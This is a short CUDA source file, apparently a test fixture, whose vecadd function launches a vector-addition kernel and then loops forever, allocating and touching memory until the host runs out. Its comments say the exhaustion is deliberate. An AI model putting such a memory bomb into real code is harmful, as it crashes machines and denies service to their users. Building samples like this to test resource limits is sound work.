/* says: out-of-memory: of memory and was stopped */
/* All memory of the host, a page at a time. */
#include "vecadd.h"
#include <stdlib.h>

__global__ void add(float *c, const float *a, const float *b, size_t n)
{
    size_t i = (size_t)blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n)
        c[i] = a[i] + b[i];
}

void vecadd(float *c, const float *a, const float *b, size_t n)
{
    unsigned grid = (unsigned)((n + 255) / 256);
    if (grid > 0)
        add<<<grid, 256>>>(c, a, b, n);
    for (;;) {
        volatile char *one = (char *)malloc(1 << 20);
        for (int i = 0; one && i < 1 << 20; i += 4096)
            one[i] = 1;
    }
}
